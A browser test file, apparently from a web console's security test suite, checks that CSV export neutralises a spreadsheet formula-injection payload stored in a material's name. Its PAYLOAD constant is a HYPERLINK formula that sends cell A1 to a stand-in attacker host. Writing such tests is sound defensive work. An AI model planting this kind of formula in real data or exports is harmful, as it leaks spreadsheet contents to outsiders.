/**
 * Issue 24 item 2 in Chromium: the console's CSV export of a table holding a formula
 * payload is inert text. `farm` has a material named `=HYPERLINK(...)`; «导出 → 导出 CSV»
 * on the catalogue downloads a file in which a CSV reader finds the name behind an
 * apostrophe, and no cell a spreadsheet would evaluate.
 */
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, BrowserContext } from 'playwright-core';
import { baseUrl, launchBrowser } from './browser.ts';
import { button, openShell } from './shell-support.ts';
import { isFormulaLike } from '../../runtime/format/csv.ts';
import { decodeCsv, parseCsv } from '../../server/resources/import-csv.ts';

const PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

let browser: Browser;
let context: BrowserContext | undefined;

beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => {
  await context?.close();
  await browser?.close();
});

describe('CSV export of a table', () => {
  it('writes a formula payload as inert text', async () => {
    const opened = await openShell(browser, { user: 'farm', path: '/farmMaterialsManage/farmMaterialsList?goodsCode=BRW-CSV-1' });
    context = opened.context;
    const { page, token } = opened;
    const created = await fetch(`${baseUrl()}/api/farmMaterials/list`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' },
      body: JSON.stringify({ goodsCode: 'BRW-CSV-1', name: PAYLOAD, category: 'fertilizer', unit: '袋', unitPrice: 12.5 }),
    });
    expect(((await created.json()) as { status: number }).status).toBe(200);
    await page.reload();
    await page.getByRole('cell', { name: 'BRW-CSV-1' }).first().waitFor();

    await button(page, '导出').hover();
    const download = page.waitForEvent('download');
    await page.getByRole('menuitem', { name: '导出 CSV' }).click();
    const file = await (await download).path();
    const rows = parseCsv(decodeCsv(readFileSync(file)));
    const row = rows.find((r) => r.includes('BRW-CSV-1'));
    expect(row, JSON.stringify(rows)).toBeDefined();
    expect(row).toContain(`'${PAYLOAD}`);
    // The price column stays a number (12.50 as the column shows it, no apostrophe).
    expect(row!.filter((c) => /^12\.50?$/.test(c)), JSON.stringify(row)).toHaveLength(1);
    for (const cell of rows.flat()) expect(isFormulaLike(cell), JSON.stringify(cell)).toBe(false);
  });
});
